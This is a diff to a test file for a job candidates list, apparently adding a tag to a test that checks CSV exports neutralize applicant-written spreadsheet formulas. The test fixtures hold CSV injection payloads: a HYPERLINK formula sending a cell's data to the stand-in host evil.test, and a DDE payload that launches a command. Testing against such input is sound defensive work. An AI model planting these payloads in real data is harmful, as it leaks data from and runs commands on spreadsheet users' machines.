@@ -54,7 +54,9 @@ describe('candidates list', () => {
     expect(rows.map((row) => JSON.parse(row).firstName)).toEqual(['Salma', 'أمينة', 'Zoë 🦊'])
   })
 
-  test('CSV holds no formula that an applicant wrote; NDJSON holds every text as it was written', async () => {
+  test('CSV holds no formula that an applicant wrote; NDJSON holds every text as it was written', {
+    tags: ['formulas'],
+  }, async () => {
     const { jobUrl } = (await company.call('PUT', '/job/csv', { job: { title: 'csv' } })).body
     const firstName = '=HYPERLINK("http://evil.test/?"&B2;"open")'
     const lastName = "@SUM(1+1)*cmd|' /C calc'!A0"
